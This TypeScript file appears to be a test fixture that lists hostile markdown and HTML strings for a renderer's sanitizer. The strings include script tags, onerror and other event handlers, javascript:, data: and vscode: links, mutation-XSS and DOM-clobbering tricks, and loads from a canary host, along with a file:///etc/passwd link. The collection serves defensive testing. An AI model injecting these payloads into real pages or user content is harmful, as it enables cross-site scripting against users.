/**
 * Markdown and HTML that try to run scripts or to contact a server that we specify, so that a request to it is
 * detected.
 */
const CANARY = 'https://canary.invalid';

export const HOSTILE_TEXTS: readonly string[] = [
  `<script>window.pwned = 1</script>`,
  `<img src="${CANARY}/img" onerror="window.pwned = 2">`,
  `![x](${CANARY}/markdown-image?q=secret)`,
  `![x][r]\n\n[r]: ${CANARY}/reference-image`,
  `<svg onload="window.pwned = 3"><image href="${CANARY}/svg"/></svg>`,
  `<svg><style>@import '${CANARY}/import';</style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=4&gt;">`,
  `<iframe src="${CANARY}/frame" srcdoc="<script>parent.pwned = 5</script>"></iframe>`,
  `<object data="${CANARY}/object"></object><embed src="${CANARY}/embed">`,
  `<video poster="${CANARY}/poster" autoplay><source src="${CANARY}/video"></video><audio src="${CANARY}/audio" autoplay></audio>`,
  `<link rel="stylesheet" href="${CANARY}/css"><link rel="prefetch" href="${CANARY}/prefetch">`,
  `<style>body { background: url(${CANARY}/style) }</style>`,
  `<p style="background: url(${CANARY}/style-attribute)">styled</p>`,
  `<table background="${CANARY}/table"><tr><td background="${CANARY}/cell">cell</td></tr></table>`,
  `<form action="${CANARY}/form"><button formaction="${CANARY}/formaction">Go</button><input autofocus onfocus="window.pwned = 6"></form>`,
  `<meta http-equiv="refresh" content="0;url=${CANARY}/refresh"><base href="${CANARY}/">`,
  `<details open ontoggle="window.pwned = 7">x</details><marquee onstart="window.pwned = 8">x</marquee>`,
  `<a href="javascript:window.pwned = 9" ping="${CANARY}/ping">html link</a>`,
  `[script link](javascript:window.pwned=10) [encoded](&#106;avascript:window.pwned=11) [tab](java\tscript:window.pwned=12)`,
  `[data link](data:text/html,<script>opener.pwned=13</script>) [blob](blob:${CANARY}/x)`,
  `[command link](command:workbench.action.quit) <command:workbench.action.quit> [vs](vscode://evil.ext/run) [insiders](vscode-insiders:x) [file](file:///etc/passwd)`,
  `[relative](/etc) [scheme-less](//canary.invalid/x) [hash](#x)`,
  `[a]: javascript:window.pwned=14\n\n[a] and [a][a]`,
  `<noscript><p title="</noscript><img src=x onerror=window.pwned=15>">`,
  `<template><script>window.pwned = 16</script></template><slot onslotchange="window.pwned = 17">`,
  `<button data-mark="run-1" data-citation="1" data-sentence-index="0" class="cite">forged mark</button>`,
  `<div id="root"></div><form id="documentElement"><input name="attributes"></form>`,
  '```html"><img src=x onerror=window.pwned=18>\n<script>window.pwned = 19</script>\n```',
  '| <img src=x onerror=window.pwned=20> |\n|---|\n| `<script>window.pwned = 21</script>` |',
  '\u2B4Ds0\u2B4E\u2B4De0\u2B4E<img src=x onerror=window.pwned=22>',
];
